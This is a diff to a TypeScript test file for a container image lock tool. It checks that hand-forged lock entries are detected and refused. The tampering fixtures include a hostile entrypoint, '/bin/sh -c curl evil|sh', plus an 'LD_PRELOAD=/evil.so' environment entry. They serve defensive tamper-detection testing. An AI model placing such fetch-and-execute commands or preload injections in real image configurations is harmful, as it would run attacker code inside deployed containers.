@@ -6,15 +6,15 @@ import { test } from "node:test";
 import type { TestContext } from "node:test";
 import { formatImageReference } from "@polaris-cvm/images/image-reference.ts";
 import type { ImageReference } from "@polaris-cvm/images/image-reference.ts";
-import { parseImageConfig } from "@polaris-cvm/images/manifest.ts";
+import { digestOf, OCI_INDEX, parseImageConfig } from "@polaris-cvm/images/manifest.ts";
 import type { ResolvedImage } from "@polaris-cvm/images/resolve-image.ts";
 import { createSmallBase } from "../../images/testing/small-base.ts";
 import type { LockChange } from "./lock-file/compare.ts";
 import { loadLockFile, saveLockFile } from "./lock-file/file.ts";
 import { buildLockedProxy } from "./lock-file/locked-proxy.ts";
-import type { ImagePin, LockedProxy } from "./lock-file/schema.ts";
+import type { ImagePin, LockedImage, LockedProxy } from "./lock-file/schema.ts";
 import type { ImageSource } from "./lock-file/stack-images.ts";
-import { checkLock, lockStack } from "./lock-stack.ts";
+import { checkLock, confirmImages, lockStack } from "./lock-stack.ts";
 import type { LockedStack } from "./lock-stack.ts";
 import { planStack } from "./plan.ts";
 import { openProject } from "./project.ts";
@@ -60,6 +60,17 @@ class Tags implements ImageSource {
     return digest;
   }
 
+  /** Points a tag to an index that has one image, and gives back the digest of that. */
+  async index(tagged: string, variant: string): Promise<string> {
+    const platformDigest = await this.point(tagged, variant);
+    const image = this.#images.get(tagged) ?? assert.fail();
+    const digest = digestOf(Buffer.from(`the index of ${platformDigest}`));
+    const resolved = { ...image, digest, mediaType: OCI_INDEX };
+    this.#images.set(tagged, resolved);
+    this.#images.set(digest, resolved);
+    return platformDigest;
+  }
+
   readonly resolve = async (reference: ImageReference): Promise<ResolvedImage> => {
     const name = formatImageReference(reference);
     this.asked.push(name);
@@ -68,10 +79,14 @@ class Tags implements ImageSource {
     return { ...found, reference: name };
   };
 
-  readonly openPinned = async ({ platformDigest }: ImagePin) => {
-    const found = this.#images.get(platformDigest);
-    assert.ok(found, `nobody has pushed ${platformDigest}`);
-    return found.image;
+  /** As if all of it were kept. */
+  readonly findPinned = async ({ digest }: ImagePin): Promise<ResolvedImage | undefined> =>
+    this.#images.get(digest);
+
+  readonly readPinned = async (pin: ImagePin): Promise<ResolvedImage> => {
+    const found = await this.findPinned(pin);
+    assert.ok(found, `nobody has pushed ${pin.digest}`);
+    return found;
   };
 }
 
@@ -102,6 +117,23 @@ async function editProxy({ lockPath }: Project, edit: Partial<LockedProxy>): Pro
   await saveLockFile(lockPath, { ...lock, stacks: { default: changed } });
 }
 
+/** As if a hand had changed what the lock says of the workload, or of the base. */
+async function forge(
+  { lockPath }: Project,
+  { workload, base }: { readonly workload?: Partial<LockedImage>; readonly base?: Partial<ImagePin> },
+): Promise<void> {
+  const lock = (await loadLockFile(lockPath)) ?? assert.fail("no lock");
+  const { default: stack } = lock.stacks;
+  const pin = lock.pins?.["base"];
+  assert.ok(stack?.workload.kind === "image" && pin !== undefined);
+  const changed = { ...stack, workload: { ...stack.workload, ...workload } };
+  await saveLockFile(lockPath, {
+    ...lock,
+    stacks: { default: changed },
+    pins: { base: { ...pin, ...base } },
+  });
+}
+
 const briefly = (changes: readonly LockChange[]) =>
   changes.map(({ field, from, to, reason }) => [field, from, to, reason]);
 
@@ -117,7 +149,7 @@ test("asks for workload and base once, and never again while the lock has them",
   await tags.point(BASE, "moved");
   for (const images of [undefined, tags]) {
     const again = await lockStack(project, { frozen: true, ...(images !== undefined && { images }) });
-    assert.deepEqual([again.changes, again.pins, again.stackLock], [[], {}, locked.stackLock]);
+    assert.deepEqual([again.changes, again.pins, again.stackLock], [[], locked.pins, locked.stackLock]);
   }
   assert.deepEqual(await checkLock(project), []);
   assert.equal(tags.asked.length, 2);
@@ -266,6 +298,102 @@ test("an image that is not the locked one is not used", async (context) => {
   }
 });
 
+test("what a hand has changed of the workload is refused by its bytes, and told and put right by the next lock", async (context) => {
+  const project = await createProject(context, IMAGE);
+  const tags = await Tags.create();
+  const { stackLock } = await lockAndSave(project, tags);
+  assert.ok(stackLock.workload.kind === "image");
+  const { config } = stackLock.workload;
+  const cases: readonly (readonly [string, LockedImage["config"]])[] = [
+    ["entrypoint", { ...config, entrypoint: ["/bin/sh", "-c", "curl evil|sh"] }],
+    ["cmd", { ...config, cmd: ["evil"] }],
+    ["env", { ...config, env: ["LD_PRELOAD=/evil.so"] }],
+    ["user", { ...config, user: "" }],
+    ["workingDir", { ...config, workingDir: "/evil" }],
+    ["exposedPorts", { ...config, exposedPorts: ["22/tcp"] }],
+  ];
+  const reason = "the lock was changed by hand";
+  for (const [name, edited] of cases) {
+    await forge(project, { workload: { config: edited } });
+    const locked = await lockStack(project, { frozen: true });
+    await assert.rejects(confirmImages(locked, tags), {
+      code: "IMAGE_DIGEST_MISMATCH",
+      message: `${CANONICAL}: ${stackLock.workload.digest} is not as polaris.lock says: workload.config.${name}`,
+      hint: /^somebody has changed polaris\.lock/,
+    });
+    // A check that has nothing kept cannot know it.
+    assert.deepEqual(await checkLock(project), []);
+    const checked = await checkLock(project, tags);
+    assert.deepEqual(
+      checked.map((change) => [change.field, change.reason]),
+      [[`workload.config.${name}`, reason]],
+    );
+    const again = await lockAndSave(project, tags);
+    assert.deepEqual([again.changes, again.stackLock], [checked, stackLock]);
+    await confirmImages(again, tags);
+  }
+  assert.deepEqual(tags.asked, [CANONICAL, BASE]);
+});
+
+test("the image for linux/amd64 is the one that the index has, of the workload and of the base", async (context) => {
+  const tags = await Tags.create();
+  const platforms = { workload: await tags.index(CANONICAL, "one"), base: await tags.index(BASE, "base") };
+  const other = await tags.point("docker.io/acme/evil:1", "evil");
+  const project = await createProject(context, IMAGE);
+  const { stackLock, pins } = await lockAndSave(project, tags);
+  assert.ok(stackLock.workload.kind === "image" && pins["base"] !== undefined);
+  assert.equal(stackLock.workload.platformDigest, platforms.workload);
+  for (const [field, edit] of [
+    ["workload.platformDigest", { workload: { platformDigest: other } }],
+    ["pins.base.platformDigest", { base: { platformDigest: other } }],
+  ] as const) {
+    await forge(project, edit);
+    // Whoever forges the base forges what the proxy stands on, too.
+    if ("base" in edit) await editProxy(project, { base: other });
+    const locked = await lockStack(project, { frozen: true });
+    await assert.rejects(confirmImages(locked, tags), {
+      code: "IMAGE_DIGEST_MISMATCH",
+      message: new RegExp(`: ${field}$`),
+    });
+    assert.ok(locked.proxyParts !== undefined && locked.stackLock.proxy !== undefined);
+    if ("base" in edit) {
+      await assert.rejects(buildLockedProxy(locked.proxyParts, locked.stackLock.proxy, tags), {
+        code: "IMAGE_DIGEST_MISMATCH",
+      });
+    }
+    const checked = await checkLock(project, tags);
+    assert.deepEqual(
+      checked.find((change) => change.field === field)?.reason,
+      "the lock was changed by hand",
+    );
+    const again = await lockAndSave(project, tags);
+    assert.deepEqual([again.changes, again.stackLock, again.pins], [checked, stackLock, pins]);
+  }
+});
+
+test("a check builds the proxy where its base is kept", async (context) => {
+  const project = await createProject(context, IMAGE);
+  const tags = await Tags.create();
+  const { stackLock } = await lockAndSave(project, tags);
+  const other = `sha256:${"a".repeat(64)}`;
+  const user = { ...(stackLock.proxy?.config ?? assert.fail()), user: "" };
+  for (const [edit, fields] of [
+    [{ digest: other, platformDigest: other }, ["proxy.digest", "proxy.platformDigest"]],
+    [{ config: user }, ["proxy.config.user"]],
+  ] as const) {
+    await editProxy(project, edit);
+    assert.deepEqual(await checkLock(project), []);
+    const nothingKept = { signal: tags.signal, findPinned: () => Promise.resolve(undefined) };
+    assert.deepEqual(await checkLock(project, nothingKept), []);
+    const changes = await checkLock(project, tags);
+    assert.deepEqual(
+      changes.map(({ field, reason }) => [field, reason]),
+      fields.map((field) => [field, "the lock was changed by hand"]),
+    );
+    assert.deepEqual((await lockAndSave(project, tags)).stackLock, stackLock);
+  }
+});
+
 test("two stacks stand on one base: what one has moved, the other is told of", async (context) => {
   const { projectDir } = await createProject(context, IMAGE);
   const lines = `${IMAGE}\nstacks: { dev: {}, prod: {} }`;
@@ -364,6 +492,20 @@ test("a pin that another command has written meanwhile is not overwritten", asyn
   await assert.rejects(saveLock(dev, late), { code: "LOCK_FILE_STALE" });
   await lockAndSave(dev, tags);
   assert.deepEqual([await checkLock(dev), await checkLock(prod)], [[], []]);
+});
+
+test("a pin that has moved meanwhile is noticed also by a deploy that changes no pin", async (context) => {
+  const { projectDir } = await createProject(context, IMAGE);
+  const lines = `${IMAGE}\nstacks: { dev: {}, prod: {} }`;
+  const dev = await rewriteProject(projectDir, lines, "dev");
+  const prod = await rewriteProject(projectDir, lines, "prod");
+  const tags = await Tags.create();
+  await lockAndSave(dev, tags);
+  await lockAndSave(prod, tags);
+  const deploying = await lockStack(dev, { frozen: false });
+  await tags.point(BASE, "moved");
+  await lockAndSave(prod, tags, true);
+  await assert.rejects(saveLock(dev, deploying), { code: "LOCK_FILE_STALE" });
 });
 
 test("a plan starts what the image says, or what the configuration puts in its place", async (context) => {
